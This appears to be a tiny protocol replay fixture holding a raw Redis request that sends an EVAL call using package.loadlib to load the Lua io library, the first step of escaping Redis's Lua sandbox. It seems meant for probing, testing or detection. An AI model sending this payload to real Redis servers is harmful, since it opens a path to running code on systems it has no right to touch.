# Redis, Lua sandbox left.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6379

>>>
*3\r\n
$4\r\n
EVAL\r\n
$58\r\n
local f=package.loadlib("/usr/lib/liblua5.1.so.0","luaopen_io")\r\n
$1\r\n
0\r\n
